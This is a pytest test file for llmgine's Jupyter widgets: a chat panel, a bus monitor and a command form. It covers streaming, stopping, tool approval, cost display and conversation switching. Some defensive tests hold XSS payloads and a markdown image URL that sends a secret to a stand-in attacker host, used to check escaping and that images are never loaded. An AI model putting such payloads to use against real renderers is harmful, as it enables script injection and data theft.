"""The widgets without a browser: every button through its Python method."""

from __future__ import annotations

import asyncio
import enum
from pathlib import Path
from typing import Any, Literal

import ipywidgets as widgets
import pytest
from pydantic import Field

from llmgine import ApprovalNotFoundError, Metric, MetricEvent
from llmgine.bus import MessageBus
from llmgine.llm import (
    Completion,
    LLMDeltaEvent,
    LLMEngine,
    PromptCommand,
    Provider,
    ScriptedProvider,
    StreamChunk,
    ToolCall,
)
from llmgine.messages import Command, Event
from llmgine.notebook.widgets import BusMonitor, ChatWidget, CommandForm


def double(x: int) -> int:
    """Double a number.

    Args:
        x: The number.
    """
    return 2 * x


async def test_chat_send_streams_a_reply_rendered_as_markdown(bus: MessageBus) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["Here is **bold** and `code`."]))
    chat = ChatWidget(engine)
    chat.input.value = "hello"
    task = chat.send()
    assert task is not None
    assert chat.generating
    assert chat.input.disabled and chat.send_button.disabled and not chat.stop_button.disabled
    assert chat.send("ignored while generating") is None
    await task
    assert not chat.generating
    assert not chat.input.disabled and chat.stop_button.disabled
    assert chat.input.value == ""
    assert chat.history == [("user", "hello"), ("assistant", "Here is **bold** and `code`.")]
    reply = chat.transcript.children[-1].value
    assert "<strong>bold</strong>" in reply and "<code>code</code>" in reply
    assert repr(chat) == "ChatWidget(conversation='default')"


class Halting(Provider):
    """Streams ``first``, waits for ``gate``, then streams ``rest`` and the whole answer."""

    name = "halting"

    def __init__(self, gate: asyncio.Event, first: str, rest: str = "") -> None:
        super().__init__("h")
        self.gate, self.first, self.rest = gate, first, rest

    async def complete(self, request: Any) -> Completion:
        raise NotImplementedError

    async def stream(self, request: Any) -> Any:
        yield StreamChunk(delta=self.first)
        await self.gate.wait()
        if self.rest:
            yield StreamChunk(delta=self.rest)
        yield StreamChunk(completion=Completion(content=self.first + self.rest))


async def test_chat_shows_streamed_text_as_it_arrives(bus: MessageBus) -> None:
    gate = asyncio.Event()
    chat = ChatWidget(LLMEngine(bus, provider=Halting(gate, "first words ", "and the rest")))
    first_delta = asyncio.Event()
    bus.register_event_handler(LLMDeltaEvent, lambda e: first_delta.set())  # after the panel's
    task = chat.send("go")
    assert task is not None
    await asyncio.wait_for(first_delta.wait(), timeout=5)
    assert "first words" in chat.transcript.children[-1].value
    assert "the rest" not in chat.transcript.children[-1].value
    gate.set()
    await task
    assert "first words and the rest" in chat.transcript.children[-1].value


async def test_chat_stop_mid_stream_keeps_the_text_so_far(bus: MessageBus) -> None:
    class Endless(Provider):
        name = "endless"

        async def complete(self, request: Any) -> Completion:
            raise NotImplementedError

        async def stream(self, request: Any) -> Any:
            while True:
                yield StreamChunk(delta="more ")
                await asyncio.sleep(0)

    chat = ChatWidget(LLMEngine(bus, provider=Endless("e")))
    three = asyncio.Event()
    bus.register_event_handler(
        LLMDeltaEvent, lambda e: three.set() if chat._streamed.count("more") >= 3 else None
    )
    task = chat.send("go on forever")
    assert task is not None
    await asyncio.wait_for(three.wait(), timeout=5)
    chat.stop_button.click()
    await task
    role, text = chat.history[-1]
    assert role == "stopped"
    assert text.startswith("more more more")
    assert text.endswith("*[stopped]*")
    assert "[stopped]" in chat.transcript.children[-1].value
    assert not chat.generating and not chat.input.disabled


async def test_chat_shows_tool_steps_and_errors_inline(bus: MessageBus) -> None:
    provider = ScriptedProvider(
        [
            Completion(tool_calls=[ToolCall(id="c1", name="double", arguments='{"x": 21}')]),
            "It is 42.",
            RuntimeError("the model fell over <b>hard</b>"),
        ]
    )
    chat = ChatWidget(LLMEngine(bus, provider=provider, tools=[double]))
    task = chat.send("double 21")
    assert task is not None
    await task
    values = [child.value for child in chat.transcript.children]
    assert len(values) == 3  # the prompt, the tool step, the reply
    assert "<details>" in values[1]
    assert "double(x=21)" in values[1]
    assert "42" in values[1]
    assert "It is 42." in values[2]
    task = chat.send("again")
    assert task is not None
    await task
    assert chat.history[-1][0] == "error"
    error_html = chat.transcript.children[-1].value
    assert "RuntimeError: the model fell over" in error_html
    assert "&lt;b&gt;hard&lt;/b&gt;" in error_html  # escaped, never rendered


async def test_chat_escapes_html_in_messages(bus: MessageBus) -> None:
    chat = ChatWidget(LLMEngine(bus, provider=ScriptedProvider(["<img src=x onerror=alert(1)>"])))
    task = chat.send("<script>alert(1)</script>")
    assert task is not None
    await task
    html_out = "".join(child.value for child in chat.transcript.children)
    assert "<script>" not in html_out and "<img" not in html_out
    assert "&lt;script&gt;" in html_out and "&lt;img" in html_out


async def test_chat_clear_empties_transcript_and_conversation(bus: MessageBus) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["one", "two"]))
    chat = ChatWidget(engine)
    task = chat.send("first")
    assert task is not None
    await task
    assert len(engine.conversations.get("default").messages) == 2
    await chat.clear()
    assert chat.transcript.children == ()
    assert chat.history == []
    assert engine.conversations.get("default").messages == []
    task = chat.send("second")
    assert task is not None
    await task
    assert chat.history == [("user", "second"), ("assistant", "two")]


async def test_two_chat_panels_on_one_bus_and_close(bus: MessageBus) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["a", "b"]))
    first, second = ChatWidget(engine), ChatWidget(engine, conversation_id="other")
    for chat, text in ((first, "x"), (second, "y")):
        task = chat.send(text)
        assert task is not None
        await task
    assert first.history[-1] == ("assistant", "a")
    assert second.history[-1] == ("assistant", "b")
    before = len(bus.registrations())
    first.close()
    # deltas, responses (for the cost), tool calls, tool results, approval requests, decisions
    assert len(bus.registrations()) == before - 6


class ThingEvent(Event):
    n: int = 0


async def test_monitor_records_counts_filters_and_pauses(bus: MessageBus) -> None:
    monitor = BusMonitor(bus, max_rows=3)
    for n in range(5):
        await bus.publish(ThingEvent(n=n))
    await bus.publish(MetricEvent(metrics=[Metric(name="m", value=1)]))
    await bus.wait_for_events()
    monitor.refresh()
    assert monitor.counts == {"ThingEvent": 5, "MetricEvent": 1}
    assert [r["type"] for r in monitor.visible_rows()] == [
        "ThingEvent",
        "ThingEvent",
        "MetricEvent",
    ]
    assert monitor.visible_rows()[-1]["kind"] == "metric"
    assert "ThingEvent: 5" in monitor.summary.value
    assert monitor.table.value.count("<tr>") == 4  # the header and three rows
    assert set(monitor.filter.options) == {"(all types)", "ThingEvent", "MetricEvent"}
    monitor.set_filter("ThingEvent")
    assert [r["payload"] for r in monitor.visible_rows()] == ['{"n":2}', '{"n":3}', '{"n":4}']
    assert "MetricEvent</td>" not in monitor.table.value
    monitor.set_filter(None)
    monitor.pause_button.value = True  # the Pause button
    await bus.publish(ThingEvent(n=9))
    await bus.wait_for_events()
    assert monitor.skipped == 1
    assert monitor.counts["ThingEvent"] == 5
    assert "paused" in monitor.summary.value
    monitor.resume()
    assert monitor.pause_button.description == "Pause"
    monitor.close()
    await bus.publish(ThingEvent(n=10))
    await bus.wait_for_events()
    assert monitor.counts["ThingEvent"] == 5
    assert repr(monitor) == "BusMonitor(max_rows=3)"


async def test_monitor_escapes_payloads(bus: MessageBus) -> None:
    class NoteEvent(Event):
        text: str

    monitor = BusMonitor(bus)
    await bus.publish(NoteEvent(text="<b>x</b>"))
    await bus.wait_for_events()
    monitor.refresh()
    assert "<b>x</b>" not in monitor.table.value
    assert "&lt;b&gt;x&lt;/b&gt;" in monitor.table.value


class Colour(enum.Enum):
    RED = "red"
    BLUE = "blue"


class PaintCommand(Command):
    wall: str
    """Which wall to paint."""
    coats: int = 2
    gloss: float = 0.5
    primer: bool = False
    finish: Literal["matte", "satin"] = "satin"
    colour: Colour = Colour.BLUE
    note: str | None = None
    rooms: list[str] = Field(default_factory=list)


async def test_form_inputs_follow_the_fields(bus: MessageBus) -> None:
    form = CommandForm(PaintCommand, bus)
    f = form.fields
    assert list(f) == ["wall", "coats", "gloss", "primer", "finish", "colour", "note", "rooms"]
    assert isinstance(f["wall"], widgets.Text) and f["wall"].placeholder == "required"
    assert f["wall"].tooltip == "Which wall to paint."
    assert isinstance(f["coats"], widgets.IntText) and f["coats"].value == 2
    assert isinstance(f["gloss"], widgets.FloatText) and f["gloss"].value == 0.5
    assert isinstance(f["primer"], widgets.Checkbox) and f["primer"].value is False
    assert isinstance(f["finish"], widgets.Dropdown) and f["finish"].options == ("matte", "satin")
    assert f["finish"].value == "satin"
    assert isinstance(f["colour"], widgets.Dropdown) and f["colour"].value is Colour.BLUE
    assert isinstance(f["note"], widgets.Text) and f["note"].placeholder == "optional"
    assert repr(form) == "CommandForm(PaintCommand)"


async def test_form_executes_and_shows_the_result(bus: MessageBus) -> None:
    seen: list[PaintCommand] = []

    def paint(cmd: PaintCommand) -> str:
        seen.append(cmd)
        return f"{cmd.wall} painted {cmd.colour.value}"

    bus.register_command_handler(PaintCommand, paint)
    form = CommandForm(PaintCommand, bus)
    form.fields["wall"].value = "north"
    form.fields["colour"].value = Colour.RED
    form.fields["rooms"].value = '["hall", "den"]'
    task = form.execute()
    assert task is not None
    result = await task
    assert result.result == "north painted red"
    assert seen[0].rooms == ["hall", "den"]
    assert seen[0].note is None
    assert "north painted red" in form.output.value
    assert form.result is result
    assert form.errors.value == ""


async def test_form_shows_validation_errors_inline(bus: MessageBus) -> None:
    form = CommandForm(PaintCommand, bus)
    form.fields["rooms"].value = "not json"
    form.execute_button.click()
    assert form.result is None
    errors = form.errors.value
    assert "<b>wall</b>: Field required" in errors
    assert "<b>rooms</b>: Input should be a valid list" in errors
    assert form.execute() is None


def test_form_needs_a_command_class(bus: Any) -> None:
    with pytest.raises(TypeError, match="needs a Command class"):
        CommandForm(ThingEvent, MessageBus(log_dir=None))  # type: ignore[arg-type]


async def test_widget_clicks_from_a_subshell_thread_run_on_the_bus_loop(bus: MessageBus) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["hello from the bus loop"]))
    chat = ChatWidget(engine)
    form = CommandForm(PaintCommand, bus)
    bus.register_command_handler(PaintCommand, lambda c: f"painted {c.wall}")
    form.fields["wall"].value = "east"

    async def clicks() -> tuple[Any, Any]:
        reply = chat.send("hi")
        executed = form.execute()
        assert reply is not None
        assert executed is not None
        return await reply, await executed

    _, result = await asyncio.to_thread(lambda: asyncio.run(clicks()))
    assert chat.history[-1] == ("assistant", "hello from the bus loop")
    assert result.result == "painted east"


async def test_chat_stop_while_a_tool_runs_leaves_the_conversation_as_it_was(
    bus: MessageBus,
) -> None:
    from llmgine.llm import ToolCallEvent

    started = asyncio.Event()

    async def slow_lookup(topic: str) -> str:
        """Look a topic up, slowly.

        Args:
            topic: What to look up.
        """
        started.set()
        await asyncio.Event().wait()  # never finishes: only Stop ends it
        return topic

    provider = ScriptedProvider(
        ["First answer.", ScriptedProvider.call("slow_lookup", topic="x"), "After the stop."]
    )
    engine = LLMEngine(bus, provider=provider, tools=[slow_lookup])
    chat = ChatWidget(engine, tool_choice="auto", timeout=30, options={"seed": 7})
    first = chat.send("hello")
    assert first is not None
    await first
    before = list(engine.conversations.get("default").messages)
    calls: list[ToolCallEvent] = []
    bus.register_event_handler(ToolCallEvent, calls.append)
    task = chat.send("look x up")
    assert task is not None
    await asyncio.wait_for(started.wait(), timeout=5)
    chat.stop()
    await task
    assert chat.history[-1][0] == "stopped"
    # No user message without an answer, no tool call without a result.
    assert engine.conversations.get("default").messages == before
    again = chat.send("and now?")
    assert again is not None
    await again
    assert chat.history[-1] == ("assistant", "After the stop.")
    last = provider.requests[-1]
    assert [m.role for m in last.messages] == ["user", "assistant", "user"]
    assert last.options == {"seed": 7}
    assert last.tool_choice == "auto"
    assert last.timeout is not None and last.timeout <= 30


async def test_form_says_why_a_command_could_not_run_instead_of_running_forever(
    bus: MessageBus,
) -> None:
    form = CommandForm(PaintCommand, bus)  # no handler registered
    form.fields["wall"].value = "south"
    task = form.execute()
    assert task is not None
    assert await task is None
    assert "running" not in form.output.value
    assert "HandlerNotFoundError" in form.output.value
    assert "PaintCommand" in form.output.value


async def test_a_rebound_chat_panel_uses_the_new_engine_and_bus(bus: MessageBus) -> None:
    chat = ChatWidget(LLMEngine(bus, provider=ScriptedProvider(["old"])))
    other = MessageBus(log_dir=None, enable_console_metrics=False, enable_console_traces=False)
    await other.start()
    try:
        seen: list[str] = []
        other.register_event_handler(LLMDeltaEvent, lambda e: seen.append(e.delta))
        chat.rebind(LLMEngine(other, provider=ScriptedProvider(["new bus reply"])))
        task = chat.send("hi")
        assert task is not None
        await task
        assert chat.history[-1] == ("assistant", "new bus reply")
        assert "".join(seen) == "new bus reply"
    finally:
        await other.stop()


async def test_chat_panel_shows_a_waiting_call_with_approve_and_deny(bus: MessageBus) -> None:
    from llmgine.llm import ToolApprovalRequestedEvent

    script = [
        ScriptedProvider.call("double", call_id="d1", x=4),
        "It is 8.",
        ScriptedProvider.call("double", call_id="d2", x=5),
        "Not computed.",
    ]
    engine = LLMEngine(bus, provider=ScriptedProvider(script))
    engine.register_tool(double, requires_approval=True)
    chat = ChatWidget(engine)
    asked = asyncio.Event()
    bus.register_event_handler(ToolApprovalRequestedEvent, lambda e: asked.set())

    task = chat.send("double 4")
    assert task is not None
    await asyncio.wait_for(asked.wait(), 10)
    (row,) = [c for c in chat.transcript.children if "llmgine-approval" in c._dom_classes]
    label, approve_button, deny_button = row.children
    assert deny_button.description == "Deny"
    assert "double(x=4)" in label.value and "waits for your approval" in label.value
    assert chat.approvals.waiting == ["d1"]
    approve_button.click()  # the button's method is chat.approve("d1")
    await task
    assert chat.history[-1] == ("assistant", "It is 8.")
    assert row.children == (label,)
    assert "approved" in label.value
    assert chat.approvals.waiting == []

    asked.clear()
    task = chat.send("double 5")
    assert task is not None
    await asyncio.wait_for(asked.wait(), 10)
    decided = await chat.deny(reason="too big")
    assert decided.success
    await task
    assert chat.history[-1] == ("assistant", "Not computed.")
    rows = [c for c in chat.transcript.children if "llmgine-approval" in c._dom_classes]
    assert "denied: too big" in rows[-1].children[0].value
    with pytest.raises(ApprovalNotFoundError, match="no tool call of this chat panel is waiting"):
        chat.approve()


@pytest.mark.timeout(60)
async def test_chat_panel_shows_an_mcp_tool_step(bus: MessageBus) -> None:
    import sys

    engine = LLMEngine(bus, model="offline")
    await engine.add_mcp_server(command=[sys.executable, "-m", "mcp_server_time"], name="clock")
    try:
        chat = ChatWidget(engine)
        task = chat.send("get_current_time timezone=America/Lima")
        assert task is not None
        await task
    finally:
        await engine.close()
    step = next(c for c in chat.transcript.children if "<details>" in c.value)
    assert "get_current_time(timezone=&#x27;America/Lima&#x27;)" in step.value
    assert "America/Lima" in chat.history[-1][1]


def test_markdown_stream_renders_finished_blocks_once_and_matches_the_whole() -> None:
    from llmgine.notebook.widgets._render import MarkdownStream, markdown

    text = (
        "# Title\n\nA paragraph with **bold**.\n\n```python\nx = 1\n\n\ny = 2\n```\n\n"
        "- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n" + "More text. " * 50
    )
    for size in (1, 3, 17):
        stream, pieces, tail = MarkdownStream(), [], ""
        unfinished: list[int] = []
        for i in range(0, len(text), size):
            frozen, tail = stream.feed(text[i : i + size])
            pieces += frozen
            unfinished.append(len(stream.text) - stream._start)
        assert "".join(pieces) + tail == markdown(text)
        # Only the growing last block is rendered again: never more than the last paragraph.
        assert max(unfinished) <= len("More text. " * 50) + size


async def test_a_long_streamed_reply_freezes_finished_paragraphs(bus: MessageBus) -> None:
    reply = "\n\n".join(f"Paragraph {i} with *emphasis*." for i in range(6))
    chat = ChatWidget(LLMEngine(bus, provider=ScriptedProvider([reply])))
    sizes: list[int] = []
    bus.register_event_handler(
        LLMDeltaEvent, lambda e: sizes.append(len(chat.transcript.children[-1].value))
    )
    task = chat.send("go")
    assert task is not None
    await task
    # While streaming, the live block held one paragraph at most, not the whole reply so far.
    assert max(sizes) < len(markdown_html(reply)) / 2
    assert chat._frozen == []  # the finished reply is one block again
    assert chat.transcript.children[-1].value.count("<em>emphasis</em>") == 6
    assert len(chat.transcript.children) == 2  # the prompt and the reply


def markdown_html(text: str) -> str:
    from llmgine.notebook.widgets._render import markdown

    return markdown(text)


async def test_stopping_a_reply_that_waits_for_approval_removes_its_buttons(
    bus: MessageBus,
) -> None:
    from llmgine.llm import ToolApprovalRequestedEvent

    engine = LLMEngine(bus, provider=ScriptedProvider([ScriptedProvider.call("double", x=1)]))
    engine.register_tool(double, requires_approval=True)
    chat = ChatWidget(engine)
    asked = asyncio.Event()
    bus.register_event_handler(ToolApprovalRequestedEvent, lambda e: asked.set())
    task = chat.send("double 1")
    assert task is not None
    await asyncio.wait_for(asked.wait(), 10)
    chat.stop()
    await task  # the panel handles the cancellation: "[stopped]"
    await bus.wait_for_events()  # the engine's withdrawal of the call comes after the stop
    assert chat.history[-1][0] == "stopped"
    (row,) = [c for c in chat.transcript.children if "llmgine-approval" in c._dom_classes]
    assert len(row.children) == 1
    assert "not run: the reply was stopped" in row.children[0].value
    assert chat.approvals.waiting == []
    assert engine.approvals.pending == []


class _Model(ScriptedProvider):
    """A script standing in for a real model, whose answers the call cache keeps."""

    cacheable = True


def _priced_engine(bus: MessageBus, *replies: str, cache: Any = None) -> LLMEngine:
    from llmgine.llm import Price, Usage

    script = [
        Completion(content=reply, usage=Usage(input_tokens=1000, output_tokens=500))
        for reply in replies
    ]
    return LLMEngine(
        bus,
        provider=_Model(script, model="m-1"),
        prices={"m-1": Price(input_per_mtok=1.0, output_per_mtok=2.0)},
        cache=cache,
    )


async def test_the_chat_panel_shows_what_each_reply_cost(bus: MessageBus) -> None:
    chat = ChatWidget(_priced_engine(bus, "one", "two"))
    for prompt in ("first", "second"):
        task = chat.send(prompt)
        assert task is not None
        await task
    assert [cost.text() for cost in chat.costs] == [
        "$0.002 · 1,500 tokens",  # 1000 in at $1/M + 500 out at $2/M
        "$0.002 · 1,500 tokens",
    ]
    assert "$0.002 · 1,500 tokens</div>" in chat.transcript.children[-1].value
    assert chat.history[-1] == ("assistant", "two")  # the cost is shown, not part of the reply


async def test_the_chat_panel_says_cached_when_the_cache_answered(
    bus: MessageBus, tmp_path: Path
) -> None:
    from llmgine.llm.cache import LLMCache

    cache = LLMCache(tmp_path / "calls.sqlite3")
    first = ChatWidget(_priced_engine(bus, "an answer", cache=cache), conversation_id="a")
    again = ChatWidget(first.engine, conversation_id="b")  # the same request: a hit
    for panel in (first, again):
        task = panel.send("the same question")
        assert task is not None
        await task
    assert again.history[-1] == ("assistant", "an answer")
    assert again.costs[0].cached
    assert again.costs[0].text() == "cached · saved $0.002"
    assert "cached · saved $0.002" in again.transcript.children[-1].value
    await cache.aclose()


async def test_the_chat_panel_picks_a_stored_conversation_and_continues_it(
    bus: MessageBus,
) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["a1", "b1", "a2"]))
    chat = ChatWidget(engine)
    assert chat.picker.options == ["default"]
    for prompt in ("hello", None):
        if prompt is None:
            await chat.new_conversation("other")
            assert chat.history == [] and chat.picker.dropdown.value == "other"
            prompt = "hi"
        task = chat.send(prompt)
        assert task is not None
        await task
    assert set(chat.picker.options) == {"default", "other"}
    chat.picker.dropdown.value = "default"  # as a person picks it in the list
    assert chat.listing is not None
    await chat.listing
    assert chat.conversation_id == "default"
    assert chat.history == [("user", "hello"), ("assistant", "a1")]  # shown from the store
    task = chat.send("and again")
    assert task is not None
    await task
    messages = engine.conversations.get("default").messages
    assert [m.content for m in messages] == ["hello", "a1", "and again", "a2"]
    chat.close()


async def test_chat_takes_a_new_message_as_soon_as_send_is_enabled_again(
    bus: MessageBus,
) -> None:
    # After a reply the panel lists the stored conversations again; Send is enabled before
    # that listing ends, and a click then must send, not be dropped silently.
    engine = LLMEngine(bus, provider=ScriptedProvider(["first reply", "second reply"]))
    chat = ChatWidget(engine)
    await chat.listing
    listing, release = asyncio.Event(), asyncio.Event()
    alist = engine.conversations.alist

    async def slow_alist() -> Any:
        listing.set()
        await release.wait()
        return await alist()

    engine.conversations.alist = slow_alist  # type: ignore[method-assign]
    first = chat.send("one")
    assert first is not None
    await asyncio.wait_for(listing.wait(), 10)
    assert not chat.send_button.disabled and not chat.generating
    second = chat.send("two")
    assert second is not None, "Send was enabled but the message was dropped"
    release.set()
    await asyncio.wait_for(asyncio.gather(first, second), 10)
    assert chat.history == [
        ("user", "one"),
        ("assistant", "first reply"),
        ("user", "two"),
        ("assistant", "second reply"),
    ]


def _gated_reads(engine: LLMEngine) -> tuple[asyncio.Event, asyncio.Event]:
    """Make the engine's reads of a conversation wait for a gate (a slow store)."""
    entered, gate = asyncio.Event(), asyncio.Event()
    aget = engine.conversations.aget

    async def slow_aget(conversation_id: str) -> Any:
        entered.set()
        await gate.wait()
        return await aget(conversation_id)

    engine.conversations.aget = slow_aget  # type: ignore[method-assign]
    return entered, gate


async def test_chat_picking_quickly_shows_the_last_pick_once(bus: MessageBus) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["reply in a", "reply in b"]))
    chat = ChatWidget(engine)
    for conversation_id, prompt in (("a", "hello a"), ("b", "hello b")):
        await chat.new_conversation(conversation_id)
        await chat.send(prompt)  # type: ignore[misc]
    _, gate = _gated_reads(engine)
    picks = [chat.pick("a"), chat.pick("b"), chat.pick("a")]  # arrow keys in the dropdown
    gate.set()
    await asyncio.wait_for(asyncio.gather(*picks), 10)
    assert chat.conversation_id == "a"
    assert chat.history == [("user", "hello a"), ("assistant", "reply in a")]
    assert len(chat.transcript.children) == 2


async def test_chat_a_message_sent_while_a_picked_conversation_loads_follows_its_history(
    bus: MessageBus,
) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["old reply", "new reply"]))
    chat = ChatWidget(engine)
    await chat.send("old question")  # type: ignore[misc]
    await chat.new_conversation("other")
    entered, gate = _gated_reads(engine)
    loading = chat.pick("default")
    await asyncio.wait_for(entered.wait(), 10)
    reply = chat.send("new question")
    assert reply is not None
    gate.set()
    await asyncio.wait_for(asyncio.gather(loading, reply), 10)
    expected = [
        ("user", "old question"),
        ("assistant", "old reply"),
        ("user", "new question"),
        ("assistant", "new reply"),
    ]
    assert chat.history == expected
    shown = [c.value for c in chat.transcript.children]
    order = [next(i for i, v in enumerate(shown) if text in v) for _, text in expected]
    assert order == sorted(order), shown
    stored = engine.conversations.get("default").messages
    assert [m.content for m in stored] == [text for _, text in expected]


async def test_chat_stop_after_the_answer_is_kept_shows_the_whole_answer(
    bus: MessageBus,
) -> None:
    # The engine answered and kept the turn; the panel still waits for the bus's events
    # (a slow handler). Stop then is too late: the reply is shown whole, as it is kept.
    engine = LLMEngine(bus, provider=ScriptedProvider(["The full answer: 42."]))
    chat = ChatWidget(engine)
    await chat.listing
    held, gate = asyncio.Event(), asyncio.Event()

    async def slow_handler(event: LLMDeltaEvent) -> None:
        held.set()
        await gate.wait()

    bus.register_event_handler(LLMDeltaEvent, slow_handler)
    kept, store = asyncio.Event(), engine.conversations.store
    append_turn = store.append_turn

    def append_and_tell(*args: Any) -> int:
        turn = append_turn(*args)
        kept.set()  # the memory store keeps the turn on the loop
        return turn

    store.append_turn = append_and_tell  # type: ignore[method-assign]
    chat_done = chat.send("question")
    assert chat_done is not None
    await asyncio.wait_for(held.wait(), 10)
    await asyncio.wait_for(kept.wait(), 10)
    chat.stop_button.click()
    gate.set()
    await asyncio.wait_for(chat_done, 10)
    assert chat.history == [("user", "question"), ("assistant", "The full answer: 42.")]
    assert not chat.generating


async def test_chat_clear_or_a_pick_mid_reply_leaves_nothing_of_it(bus: MessageBus) -> None:
    engine = LLMEngine(bus, provider=Halting(asyncio.Event(), "more "))
    chat = ChatWidget(engine)
    await chat.listing
    for leave in (chat.clear, lambda: chat.pick("other")):
        seen = asyncio.Event()
        bus.register_event_handler(LLMDeltaEvent, lambda e, seen=seen: seen.set())
        task = chat.send("hello")
        assert task is not None
        await asyncio.wait_for(seen.wait(), 10)
        await asyncio.wait_for(leave(), 10)
        await asyncio.wait_for(asyncio.gather(task, return_exceptions=True), 10)
        assert chat.history == [] and chat.costs == [] and chat.transcript.children == ()
        assert not chat.generating and not chat.send_button.disabled


async def test_chat_clear_while_a_picked_conversation_loads_shows_none_of_it(
    bus: MessageBus,
) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["old reply"]))
    chat = ChatWidget(engine)
    await chat.send("old question")  # type: ignore[misc]
    await chat.new_conversation("other")
    entered, gate = asyncio.Event(), asyncio.Event()
    aget = engine.conversations.aget

    async def read_then_wait(conversation_id: str) -> Any:
        conversation = await aget(conversation_id)  # read before the Clear
        entered.set()
        await gate.wait()  # shown after it
        return conversation

    engine.conversations.aget = read_then_wait  # type: ignore[method-assign]
    loading = chat.pick("default")
    await asyncio.wait_for(entered.wait(), 10)
    await asyncio.wait_for(chat.clear(), 10)
    gate.set()
    await asyncio.wait_for(loading, 10)
    assert chat.history == [] and chat.transcript.children == ()


async def test_chat_shows_a_command_the_bus_refuses_as_an_error(bus: MessageBus) -> None:
    engine = LLMEngine(bus, provider=ScriptedProvider(["never"]))
    chat = ChatWidget(engine)
    await chat.listing
    bus.unregister_command_handler(PromptCommand)
    task = chat.send("hello?")
    assert task is not None
    await asyncio.wait_for(task, 10)
    assert chat.history[-1][0] == "error" and "HandlerNotFoundError" in chat.history[-1][1]
    assert not chat.generating and not chat.send_button.disabled


def test_markdown_in_replies_shows_images_as_links_never_loads_them() -> None:
    from llmgine.notebook.widgets._render import markdown

    rendered = markdown("![chart](https://attacker.example/p.png?d=secret)")
    assert "<img" not in rendered
    assert '<a href="https://attacker.example/p.png?d=secret">chart</a>' in rendered


class TransferCommand(Command):
    amount: float
    account: int


async def test_form_a_required_number_left_empty_is_refused_not_sent_as_zero(
    bus: MessageBus,
) -> None:
    seen: list[TransferCommand] = []
    bus.register_command_handler(TransferCommand, seen.append)
    form = CommandForm(TransferCommand, bus)
    assert form.fields["account"].placeholder == "required"
    assert form.execute() is None
    assert "account" in form.errors.value and "Field required" in form.errors.value
    form.fields["amount"].value = "12.5"
    form.fields["account"].value = "42"
    task = form.execute()
    assert task is not None
    await asyncio.wait_for(task, 10)
    assert [(c.amount, c.account) for c in seen] == [(12.5, 42)]


async def test_form_shows_the_latest_execute_when_an_earlier_one_ends_last(
    bus: MessageBus,
) -> None:
    first_may_end = asyncio.Event()

    async def slow_first(command: PaintCommand) -> str:
        if command.wall == "old":
            await first_may_end.wait()
        return f"painted {command.wall}"

    bus.register_command_handler(PaintCommand, slow_first)
    form = CommandForm(PaintCommand, bus)
    form.fields["wall"].value = "old"
    first = form.execute()
    form.fields["wall"].value = "new"
    second = form.execute()
    assert first is not None and second is not None
    await asyncio.wait_for(second, 10)
    first_may_end.set()
    await asyncio.wait_for(first, 10)
    assert form.result is not None and form.result.result == "painted new"
    assert "painted new" in form.output.value and "painted old" not in form.output.value
